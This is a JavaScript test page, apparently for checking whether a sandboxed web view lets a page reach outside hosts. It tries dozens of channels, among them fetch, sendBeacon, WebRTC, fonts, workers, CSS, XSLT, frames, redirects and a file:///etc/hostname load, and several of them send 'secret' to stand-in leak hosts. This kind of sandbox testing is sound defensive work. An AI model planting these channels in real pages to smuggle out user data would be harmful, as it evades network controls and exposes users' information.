"use strict";

const web = "http://203.0.113.7";
const click = (id) => document.getElementById(id).click();
const submit = (id) => document.getElementById(id).submit();
const put = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));

/** Ways that leave the page where it is. Each aims at a path or a name of its own, by which it is known when it is heard. */
const ways = {
  "new Image": () => (new Image().src = `${web}/new-image`),
  "new Audio": () => new Audio("http://203.0.113.9/new-audio").load(),
  fetch: () => fetch(`${web}/fetch`),
  "fetch without cors": () => fetch(`${web}/fetch-no-cors`, { mode: "no-cors", method: "POST", body: "secret" }),
  "fetch by name": () => fetch("http://fetch-by-name.leak.example/", { mode: "no-cors" }),
  "fetch over TLS by name": () => fetch("https://fetch-tls-by-name.leak.example/", { mode: "no-cors" }),
  "fetch that stays alive": () => fetch(`${web}/fetch-keepalive`, { keepalive: true, mode: "no-cors" }),
  "fetch over IPv6": () => fetch("http://[2001:db8::7]/fetch-ipv6", { mode: "no-cors" }),
  "fetch of the machine itself": () => fetch("http://127.0.0.1/fetch-own-machine", { mode: "no-cors" }),
  XHR: () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${web}/xhr`);
    request.send();
  },
  WebSocket: () => new WebSocket("ws://203.0.113.8/websocket"),
  "WebSocket over TLS": () => new WebSocket("wss://203.0.113.7:8002/websocket-tls"),
  EventSource: () => new EventSource("http://203.0.113.8/event-source"),
  sendBeacon: () => {
    if (!navigator.sendBeacon(`${web}/beacon`, "secret")) throw new Error("refused");
  },
  WebTransport: () => new WebTransport("https://203.0.113.7/webtransport"),
  WebRTC: async () => {
    const servers = ["stun:203.0.113.7:3478", "stun:stun.leak.example:3478"].map((urls) => ({ urls }));
    const turn = { urls: "turn:203.0.113.7:3478?transport=tcp", username: "a", credential: "b" };
    const peer = new RTCPeerConnection({ iceServers: [...servers, turn] });
    peer.createDataChannel("secret");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "a font": () => new FontFace("loaded", `url(${web}/font-loaded)`).load(),
  "an imported module": () => import(`${web}/import-module`),
  "own worker": () => new Worker("worker.js"),
  "a worker from elsewhere": () => new Worker(`${web}/worker`),
  "a worker made of text": () => new Worker(URL.createObjectURL(new Blob([`importScripts("${web}/blob-worker-import")`]))),
  "a service worker": () => navigator.serviceWorker.register("worker.js"),
  "a worklet": () => new AudioContext().audioWorklet.addModule(`${web}/worklet`),
  "a script element": () => put("script", { src: `${web}/script-element` }),
  "a module script element": () => put("script", { type: "module", src: `${web}/module-script-element` }),
  "a style element": () => put("style", { textContent: `@import "${web}/style-element";` }),
  "a constructed style": () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { list-style: url(${web}/constructed-style); background: url(${web}/constructed-style) }`);
    document.adoptedStyleSheets = [sheet];
  },
  "a style by script": () => (document.body.style.backgroundImage = `url(${web}/style-by-script)`),
  "a prefetched name": () => put("link", { rel: "dns-prefetch", href: "//late-dns-prefetch.leak.example" }),
  "a connection ahead": () => put("link", { rel: "preconnect", href: "http://203.0.113.7:8003" }),
  "a prefetch": () => put("link", { rel: "prefetch", href: `${web}/late-prefetch` }),
  "a frame": () => put("iframe", { src: `${web}/frame` }),
  "a frame by script": () => put("iframe", { src: `javascript:"<img src=${web}/frame-by-script>"` }),
  "an object": () => put("object", { data: `${web}/late-object`, type: "text/html" }),
  "an XSL transformation": () => {
    const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a><xsl:copy-of select="document('${web}/xsl-document')"/></a></xsl:template></xsl:stylesheet>`;
    const parse = (text) => new DOMParser().parseFromString(text, "text/xml");
    const transformation = new XSLTProcessor();
    transformation.importStylesheet(parse(sheet));
    transformation.transformToFragment(parse("<a/>"), document);
  },
  "window.open": () => {
    if (!window.open(`${web}/window-open`)) throw new Error("refused");
  },
  "a link in a new window": () => click("link-in-window"),
  "a link's ping": () => click("ping"),
  "a download": () => click("download"),
  "a form in a frame": () => submit("form-in-frame"),
  "a form in a new window": () => submit("form-in-window"),
  "XHR at once": () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${web}/xhr-sync`, false);
    request.send();
  },
};

/** Ways that leave the page; where one gets away, the window is brought back and the next is tried. */
const leaving = {
  "location.assign": () => location.assign(`${web}/leave-assign`),
  "location.replace": () => location.replace(`${web}/leave-replace`),
  "location by name": () => location.assign("http://leave-by-name.leak.example/"),
  "location over TLS": () => location.assign("https://203.0.113.7/leave-tls"),
  "window.open here": () => window.open(`${web}/leave-open`, "_self"),
  "a link": () => click("link"),
  "a form (GET)": () => submit("form-get"),
  "a form (POST)": () => submit("form-post"),
  "a refresh": () => put("meta", { httpEquiv: "refresh", content: `0; url=${web}/leave-refresh` }),
  "a file": () => location.assign("file:///etc/hostname"),
  "text as a page": () => location.assign(`data:text/html,<img src=${web}/leave-data>`),
  "a blob as a page": () => location.assign(URL.createObjectURL(new Blob([`<img src=${web}/leave-blob>`], { type: "text/html" }))),
};

const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const say = (text) => (document.getElementById("said").textContent = text);

async function outcome(way) {
  try {
    const waited = await Promise.race([Promise.resolve(way()).then(() => "done"), pause(1500).then(() => "no answer")]);
    return waited;
  } catch (error) {
    return `${error.name}: ${error.message}`;
  }
}

async function tryAll() {
  // All at once: a web view slows down the timers of a page that has many.
  const outcomes = await Promise.all(Object.entries(ways).map(async ([name, way]) => `${name}: ${await outcome(way)}`));
  sessionStorage.setItem("outcomes", outcomes.join("; "));
  await pause(3000);
}

async function leave() {
  const names = Object.keys(leaving);
  for (let next = Number(sessionStorage.getItem("next")); next < names.length; next += 1) {
    sessionStorage.setItem("next", String(next + 1));
    say(`Leaving by ${names[next]}.`);
    await outcome(leaving[names[next]]);
    await pause(700);
  }
}

async function begin() {
  if (sessionStorage.getItem("outcomes") === null) await tryAll();
  await leave();
  document.getElementById("list").textContent = sessionStorage.getItem("outcomes");
  say(`Nothing is left to try: ${Object.keys(ways).length + Object.keys(leaving).length} ways by script.`);
}

void begin();
